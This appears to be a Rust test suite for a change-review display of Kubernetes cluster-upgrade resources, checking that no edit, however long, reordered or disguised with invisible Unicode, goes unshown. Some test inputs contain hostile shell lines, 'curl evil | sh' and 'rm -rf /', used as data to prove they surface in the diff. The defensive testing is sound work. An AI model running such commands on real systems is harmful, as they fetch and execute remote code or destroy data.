use super::super::compare::SHOWN;
use super::super::write::state;
use super::*;

/// What the merge patch makes of the one is the other.
#[test]
fn an_edit_writes_what_differs_and_no_more() {
    let before = json!({"a": 1, "b": {"c": [1, 2], "d": "x"}, "e": {"f": 1}});
    for (after, patch) in [
        (before.clone(), None),
        (
            json!({"a": 2, "b": {"c": [1, 2], "d": "x"}, "e": {"f": 1}}),
            Some(json!({"a": 2})),
        ),
        (
            json!({"a": 1, "b": {"c": [2]}}),
            Some(json!({"b": {"c": [2], "d": null}, "e": null})),
        ),
        (
            json!({"a": {"new": {}}, "b": {"c": [1, 2], "d": "x"}, "e": 7}),
            Some(json!({"a": {"new": {}}, "e": 7})),
        ),
    ] {
        assert_eq!(difference(&before, &after), patch, "{after}");
    }
}

fn upgrade(spec: &Value, labels: &Value) -> ManagedClustersUpgrade {
    let metadata =
        json!({"name": "spring", "namespace": "default", "uid": "u", "generation": 7, "labels": labels});
    serde_json::from_value(json!({"metadata": metadata, "spec": spec})).unwrap()
}

#[test]
fn each_field_that_differs_is_listed() {
    let before = upgrade(
        &json!({"paused": true, "clusterVersion": {"version": "4.14.12", "channel": "stable-4.14"}, "clusterSelector": {"matchExpressions": [{"key": "name", "operator": "In", "values": ["dev1", "dev2"]}]}}),
        &json!({"example.com/team": "a", "same": "x"}),
    );
    let after = upgrade(
        &json!({"clusterVersion": {"version": "4.14.13", "channel": "stable-4.14"}, "clusterSelector": {"matchExpressions": [{"key": "name", "operator": "In", "values": ["dev2", "dev3"]}]}, "ocpOperators": {"approveAllUpgrades": true}}),
        &json!({"example.com/team": "b", "same": "x"}),
    );
    let written = Written {
        before: Some(before),
        after,
    };
    let Changes { listed, more } = written.changes();
    let said = |change: &Change| {
        let part = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".to_owned());
        format!(
            "{}: {} > {}",
            change.field,
            part(&change.before),
            part(&change.after)
        )
    };
    let listed: Vec<_> = listed.iter().map(said).collect();
    let expected = [
        "spec.clusterSelector.matchExpressions[0].values[0 →]: dev1 > -",
        "spec.clusterSelector.matchExpressions[0].values[→ 1]: - > dev3",
        "spec.clusterVersion.version: 4.14.12 > 4.14.13",
        "spec.ocpOperators.approveAllUpgrades: - > true",
        "spec.paused: true > -",
        "metadata.labels[\"example.com/team\"]: a > b",
    ];
    assert_eq!(
        (listed.as_slice(), more),
        (expected.map(str::to_owned).as_slice(), 0)
    );
    assert_eq!(written.target_before().as_deref(), Some("4.14.12 stable-4.14"));
    assert_eq!(written.target_after(), "4.14.13 stable-4.14");
    assert!(written.approves_all_operators());
}

fn changes(before: Option<ManagedClustersUpgrade>, after: ManagedClustersUpgrade) -> Changes {
    Written { before, after }.changes()
}

/// Who pastes a text sees what it brings beside its target.
#[test]
fn all_of_a_new_upgrade_is_listed_with_who_owns_it() {
    let mut new = upgrade(&json!({"paused": true}), &json!({}));
    let owner = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "1"});
    new.metadata.owner_references = serde_json::from_value(json!([owner])).unwrap();
    let listed = changes(None, new).listed;
    let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
    assert_eq!(fields[0], "spec.paused");
    assert!(
        fields.contains(&"metadata.ownerReferences[→ 0].name"),
        "{fields:?}"
    );
}

#[test]
fn the_spec_comes_before_however_many_labels() {
    let labels = |value: &str| {
        let labels = (0..LISTED + 3).map(|i| (format!("l{i}"), json!(value)));
        Value::Object(labels.collect())
    };
    let before = upgrade(&json!({}), &labels("a"));
    let Changes { listed, more } = changes(Some(before), upgrade(&json!({"paused": true}), &labels("b")));
    assert_eq!(
        (listed.len(), more),
        (1 + MARKS_LISTED, LISTED + 3 - MARKS_LISTED)
    );
    assert_eq!(listed[0].field, "spec.paused");
}

/// What is said of a change, one line each.
fn said(before: &Value, after: &Value) -> Vec<String> {
    let written = [before, after].map(|spec| upgrade(spec, &json!({})));
    let [before, after] = written;
    let part = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".to_owned());
    let listed = changes(Some(before), after).listed.into_iter();
    listed
        .map(|change| {
            format!(
                "{}: {} > {}",
                change.field,
                part(&change.before),
                part(&change.after)
            )
        })
        .collect()
}

/// An empty selector selects everything, and none nothing.
#[test]
fn what_is_empty_is_something_else_than_nothing() {
    let all = json!({});
    for (before, after, expected) in [
        (
            json!({}),
            json!({"clusterSelector": all}),
            vec!["spec.clusterSelector: - > {}"],
        ),
        (
            json!({"paused": true, "ocpOperators": all}),
            json!({"paused": true}),
            vec!["spec.ocpOperators: {} > -"],
        ),
        (
            json!({"upgradeStrategy": {"canaryClusters": {"clusterSelector": all}, "clusterUpgradeTimeout": "2h"}}),
            json!({"upgradeStrategy": {"clusterUpgradeTimeout": "2h"}}),
            vec!["spec.upgradeStrategy.canaryClusters.clusterSelector: {} > -"],
        ),
        (
            json!({"clusterSelector": {"matchLabels": {"a": "b"}}}),
            json!({"clusterSelector": all}),
            vec![
                "spec.clusterSelector: {…} > {}",
                "spec.clusterSelector.matchLabels.a: b > -",
            ],
        ),
        (
            json!({"clusterSelector": all}),
            json!({"clusterSelector": {"matchLabels": {"a": "b"}}}),
            vec!["spec.clusterSelector.matchLabels.a: - > b"],
        ),
    ] {
        assert_eq!(said(&before, &after), expected, "{before} {after}");
    }
}

fn with_manifest(manifest: &Value) -> Value {
    json!({"preUpgradeAction": {"manifestWork": {"workload": {"manifests": [manifest]}}}})
}

/// In what is applied to clusters, too, where anything may stand.
#[test]
fn nothing_of_a_manifest_changes_unsaid() {
    let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0]";
    for (before, after, expected) in [
        (
            json!({"ingress": []}),
            json!({"ingress": [{}]}),
            vec![".ingress[→ 0]: - > {}"],
        ),
        (
            json!({"ingress": [{}]}),
            json!({"ingress": []}),
            vec![".ingress: […] > []", ".ingress[0 →]: {} > -"],
        ),
        (
            json!({"a": 1, "ingress": []}),
            json!({"a": 1}),
            vec![".ingress: [] > -"],
        ),
        (json!({"a": "1"}), json!({"a": 1}), vec![".a: \"1\" > 1"]),
        (json!({"a": "null"}), json!({"a": "x"}), vec![".a: \"null\" > x"]),
        (json!({}), json!({"a": ""}), vec![".a: - > \"\""]),
        (
            json!({"a": [null]}),
            json!({"a": [null, null]}),
            vec![".a[→ 1]: - > null"],
        ),
        (
            json!({"args": ["--keep", "prod", "--delete", "test"]}),
            json!({"args": ["--keep", "test", "--delete", "prod", "-v"]}),
            vec![
                ".args[1 →]: prod > -",
                ".args[2 →]: --delete > -",
                ".args[→ 2]: - > --delete",
                ".args[→ 3]: - > prod",
                ".args[→ 4]: - > -v",
            ],
        ),
        (
            json!({"args": ["a", "b", "c"]}),
            json!({"args": ["a", "c", "d"]}),
            vec![".args[1 →]: b > -", ".args[→ 2]: - > d"],
        ),
        (
            json!({"args": ["a", "b"]}),
            json!({"args": ["a", "a", "b"]}),
            vec![".args[→ 1]: - > a"],
        ),
        (
            json!({"args": ["a"]}),
            json!({"args": [1]}),
            vec![".args[0]: a > 1"],
        ),
    ] {
        let expected: Vec<_> = expected.iter().map(|end| format!("{path}{end}")).collect();
        assert_eq!(
            said(&with_manifest(&before), &with_manifest(&after)),
            expected,
            "{before} {after}"
        );
    }
}

/// Of any two values, whatever they are, each row says a difference, and there is one if they differ.
#[test]
fn any_two_values_that_differ_have_rows_that_differ() {
    let leaves = [
        json!(null),
        json!(true),
        json!("true"),
        json!(1),
        json!("1"),
        json!(""),
        json!(" "),
        json!("a"),
        json!("a\n"),
        json!("a\nb"),
        json!("b\na"),
        json!("\u{200b}"),
        json!({}),
        json!([]),
        json!("{}"),
        json!("[]"),
        json!("not set"),
    ];
    let lists = leaves
        .iter()
        .flat_map(|one| leaves.iter().map(move |other| json!([one, other])));
    let fields = leaves.iter().map(|one| json!({"x": one}));
    let nested = leaves.iter().map(|one| json!([{"x": one}, [one]]));
    let all: Vec<Value> = leaves
        .iter()
        .cloned()
        .chain(fields)
        .chain(nested)
        .chain(lists)
        .collect();
    for before in all.iter().step_by(3) {
        for after in &all {
            let with = |value: &Value| upgrade(&with_manifest(&json!({"a": value, "b": 1})), &json!({}));
            let listed = changes(Some(with(before)), with(after)).listed;
            assert_eq!(listed.is_empty(), before == after, "{before} {after}");
            let is_seen = |change: &Change| change.before != change.after;
            assert!(listed.iter().all(is_seen), "{before} {after} {listed:?}");
        }
    }
}

/// Nor is a long value cut off where it differs, however many escapes it has, nor taken for the text that spells it.
#[test]
fn any_two_long_values_that_differ_have_rows_that_differ_and_are_shown_whole() {
    let list = json!(
        (0..200)
            .map(|number| format!("echo {number}"))
            .collect::<Vec<_>>()
    );
    let fields: Map<_, _> = (0..200).map(|key| (format!("key {key}"), json!(key))).collect();
    let fields = Value::Object(fields);
    let ends = |begin: &str, count: usize| ["", "a", "b"].map(|end| json!(begin.repeat(count) + end));
    let mut all = vec![json!(list.to_string()), json!(fields.to_string()), list, fields];
    all.extend(
        [
            "\u{5d0}",
            "\u{200b}",
            "\u{1d159}",
            "\"",
            "\u{5d0} ",
            "1",
            "x",
            "{",
        ]
        .iter()
        .flat_map(|begin| ends(begin, 1999)),
    );
    // A part of a long text may be what the page says of none.
    all.extend(["", "not set", "{…}", " a"].map(|end| json!("x".repeat(SHOWN) + end)));
    let words = |shown: &Option<String>| shown.clone().unwrap_or_else(|| "not set".to_owned());
    for before in &all {
        for after in &all {
            let with = |value: &Value| upgrade(&with_manifest(&json!({"a": value})), &json!({}));
            let listed = changes(Some(with(before)), with(after)).listed;
            assert_eq!(listed.is_empty(), before == after);
            for change in &listed {
                assert_ne!(words(&change.before), words(&change.after), "{}", change.field);
                let shown = change.before.iter().chain(&change.after);
                assert!(
                    shown
                        .map(|shown| shown.chars().count())
                        .all(|count| count <= SHOWN + 2)
                );
            }
        }
    }
}

#[test]
fn however_much_an_action_changes_the_strategy_comes_first() {
    let spec = |value: &str, most: &Value| {
        let data: Map<_, _> = (0..LISTED + 10)
            .map(|key| (format!("k{key}"), json!(value)))
            .collect();
        let mut spec = with_manifest(&json!({"data": data}));
        spec["upgradeStrategy"] = json!({"maxConcurrency": most});
        spec
    };
    let said = said(&spec("a", &json!(1)), &spec("b", &json!("100%")));
    assert_eq!(said[0], "spec.upgradeStrategy.maxConcurrency: 1 > 100%");
    assert_eq!(said.len(), LISTED);
}

/// What comes last may be what matters most: it is listed, or counted as what is not.
#[test]
fn no_action_hides_behind_another_one() {
    let data = |keys: usize| {
        let keys = (0..keys).map(|key| (format!("k{key}"), json!("a")));
        json!({"data": Value::Object(keys.collect())})
    };
    let binding = with_manifest(&json!({"roleRef": {"name": "cluster-admin"}}));
    let spec = |keys: usize| {
        let mut spec = with_manifest(&data(keys));
        spec["postUpgradeAction"] = binding["preUpgradeAction"].clone();
        upgrade(&spec, &json!({}))
    };
    let written = changes(Some(upgrade(&json!({}), &json!({}))), spec(LISTED - 1));
    assert_eq!((written.listed.len(), written.more), (LISTED, 0));
    let role = ".roleRef.name";
    assert!(written.listed[LISTED - 1].field.ends_with(role));
    let written = changes(Some(upgrade(&json!({}), &json!({}))), spec(LISTED));
    assert_eq!((written.listed.len(), written.more), (LISTED, 1));
}

/// Two values that differ never look the same, and nothing hides behind what differs first.
#[test]
fn of_a_long_value_all_is_said_that_differs() {
    let script = |first: &str, last: &str| {
        let lines = (0..400).map(|line| format!("echo {line}"));
        let lines: Vec<_> = [first.to_owned()]
            .into_iter()
            .chain(lines)
            .chain([last.to_owned()])
            .collect();
        with_manifest(&json!({"run.sh": lines.join("\n")}))
    };
    let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0][\"run.sh\"]";
    let of_script = said(&script("# 1", "echo done"), &script("# 2", "curl evil | sh"));
    let expected = [
        format!("{path} line 1: # 1 > # 2"),
        format!("{path} line 402: echo done > curl evil | sh"),
    ];
    assert_eq!(of_script, expected);
    let image = |begin: &str, end: &str| json!({"clusterVersion": {"image": format!("{begin}{}{end}", "ä".repeat(3 * SHOWN))}});
    let of_image = said(&image("1", "a"), &image("2", "b"));
    assert_eq!(of_image.len(), 2, "{of_image:?}");
    assert!(of_image[0].starts_with("spec.clusterVersion.image from letter 1: 1ä"));
    assert_eq!(of_image[1], "spec.clusterVersion.image from letter 3001: äa > äb");
    let all = said(&json!({}), &script("# 1", "curl evil | sh")).join("");
    assert!(all.contains("curl evil"), "{all}");
}

/// What comes is found among lines and objects that are the same, and a long line that differs beside one that does not.
#[test]
fn a_change_does_not_drown_in_what_has_only_moved() {
    let with = |text: String| with_manifest(&json!({"a": text}));
    let blocks = |count: usize, last: &str| {
        let blocks = (0..count).map(|number| format!("if test -e /x{number}\nthen\n\nfi\n"));
        format!("{}{last}\n", blocks.collect::<String>())
    };
    let begin = "if test -e /new\nthen\n\nfi\n";
    let listed = said(
        &with(blocks(90, "echo done")),
        &with(format!("{begin}{}", blocks(90, "curl evil | sh"))),
    );
    assert!(listed.len() <= 5, "{listed:#?}");
    assert!(
        listed
            .last()
            .unwrap()
            .ends_with(" line 361 → 365: echo done > curl evil | sh"),
        "{listed:#?}"
    );
    let long = |end: &str| with(format!("{}{end}\n", "j".repeat(144_000)));
    let listed = said(&long("a"), &long("b"));
    assert_eq!(listed.len(), 1);
    assert!(
        listed[0].ends_with(" line 1 from letter 144001: a > b"),
        "{listed:?}"
    );
    let manifests = |first: Option<Value>| {
        let others =
            (0..28).map(|number| json!({"kind": "ConfigMap", "data": {"number": number, "same": "x"}}));
        let all: Vec<Value> = first.into_iter().chain(others).collect();
        json!({"preUpgradeAction": {"manifestWork": {"workload": {"manifests": all}}}})
    };
    let listed = said(&manifests(None), &manifests(Some(json!({"kind": "Job"}))));
    let path = "spec.preUpgradeAction.manifestWork.workload.manifests[→ 0]";
    assert_eq!(listed, [format!("{path}.kind: - > Job")]);
}

/// What does not exist and owns an upgrade has it deleted.
#[test]
fn no_annotation_hides_who_owns_an_upgrade() {
    let mut new = upgrade(&json!({"paused": true}), &json!({"team": "a"}));
    new.metadata.annotations = Some([("a".to_owned(), "x".repeat(500_000))].into());
    new.metadata.finalizers = Some(vec!["example.com/kept".to_owned()]);
    let owner = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "1"});
    new.metadata.owner_references = serde_json::from_value(json!([owner])).unwrap();
    let listed = changes(None, new).listed;
    let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
    for field in [
        "metadata.ownerReferences[→ 0].name",
        "metadata.finalizers[→ 0]",
        "metadata.labels.team",
    ] {
        assert!(fields.contains(&field), "{fields:?}");
    }
}

/// A path that is cut has its end, where two of them differ.
#[test]
fn of_a_long_path_its_end_is_shown() {
    let key = |end: &str| with_manifest(&json!({format!("{}{end}", "k".repeat(3000)): "v"}));
    let listed = said(&key("a"), &key("b"));
    assert!(
        listed[0].ends_with("ka: v > -") && listed[1].ends_with("kb: - > v"),
        "{listed:?}"
    );
    assert!(listed[0].chars().count() < 1100);
}

#[test]
fn what_cannot_be_seen_is_written_with_escapes() {
    let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0].a";
    for (before, after, expected) in [
        (
            "# keep\nrm -rf /",
            "# keep rm -rf /",
            vec![" line 1: # keep > # keep rm -rf /", " line 2 →: rm -rf / > -"],
        ),
        ("a b", "a  b", vec![": a b > \"a  b\""]),
        ("dev", "dev ", vec![": dev > \"dev \""]),
        ("x", "x\n", vec![" line → 2: - > \"\""]),
        ("prod", "pr\u{200b}od", vec![": prod > \"pr\\u{200b}od\""]),
        ("admin", "\u{202e}admin", vec![": admin > \"\\u{202e}admin\""]),
        ("a", "\"a\"", vec![": a > \"\\\"a\\\"\""]),
        ("über", "Ωμ", vec![": über > Ωμ"]),
        ("prod", "prod\u{3164}", vec![": prod > \"prod\\u{3164}\""]),
        ("dev", "d\u{2800}ev", vec![": dev > \"d\\u{2800}ev\""]),
        (
            "a 1\u{5d0}",
            "a \u{5d0}1",
            vec![": \"a 1\\u{5d0}\" > \"a \\u{5d0}1\""],
        ),
        ("x", "not set", vec![": x > \"not set\""]),
        ("{…}", "x", vec![": \"{…}\" > x"]),
    ] {
        let expected: Vec<_> = expected.iter().map(|end| format!("{path}{end}")).collect();
        let with = |text: &str| with_manifest(&json!({"a": text}));
        assert_eq!(
            said(&with(before), &with(after)),
            expected,
            "{before:?} {after:?}"
        );
    }
    let keys = said(
        &with_manifest(&json!({})),
        &with_manifest(&json!({"a\u{202e}b": 1})),
    );
    assert!(keys[0].contains("[\"a\\u{202e}b\"]"), "{keys:?}");
}

/// Fifty labels that go all at once are said one by one.
#[test]
fn metadata_that_becomes_empty_says_what_goes() {
    let labels = json!({"hold": "true", "team": "prod"});
    let spec = json!({"paused": true});
    let mut before = upgrade(&spec, &labels);
    before.metadata.annotations = Some([("a".to_owned(), "b".to_owned())].into());
    let mut after = upgrade(&spec, &json!({}));
    after.metadata.labels = None;
    let listed = changes(Some(before), after).listed;
    let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "metadata.labels.hold",
            "metadata.labels.team",
            "metadata.annotations.a"
        ]
    );
    let mut new = upgrade(&spec, &json!({}));
    new.metadata.labels = None;
    assert_eq!(changes(None, new).listed.len(), 1, "nothing of metadata is set");
}

#[test]
fn a_list_of_texts_says_which_come_and_go_and_another_order_is_a_change() {
    let with = |sets: Value| upgrade(&json!({"clusterSelector": {"clusterSets": sets}}), &json!({}));
    let many: Vec<String> = (0..200).map(|number| format!("set{number}")).collect();
    let more: Vec<String> = many.iter().cloned().chain(["production".to_owned()]).collect();
    let listed = changes(Some(with(json!(many))), with(json!(more))).listed;
    let expected = Change {
        field: "spec.clusterSelector.clusterSets[→ 200]".to_owned(),
        before: None,
        after: Some("production".to_owned()),
    };
    assert_eq!(listed, [expected]);
    let listed = changes(Some(with(json!(["a", "b"]))), with(json!(["b", "a"]))).listed;
    let after: Vec<_> = listed.iter().map(|change| change.after.as_deref()).collect();
    assert_eq!(after, [Some("b"), Some("a")]);
}

/// Who retries a failed cluster writes an annotation.
#[test]
fn whatever_people_write_makes_another_state() {
    let with = |change: fn(&mut ManagedClustersUpgrade)| {
        let mut one = upgrade(&json!({"paused": true}), &json!({"a": "b"}));
        change(&mut one);
        one
    };
    let same = with(|_| {});
    let others = [
        with(|one| one.metadata.annotations = Some([("a".to_owned(), "b".to_owned())].into())),
        with(|one| one.metadata.finalizers = Some(vec!["a/b".to_owned()])),
        with(|one| one.metadata.labels = None),
        with(|one| one.metadata.uid = Some("v".to_owned())),
        with(|one| one.spec.paused = None),
    ];
    for other in others {
        assert_ne!(state(&same), state(&other), "{:?}", other.metadata);
    }
    let written = with(|one| one.metadata.resource_version = Some("7".to_owned()));
    assert_eq!(state(&same), state(&written));
}
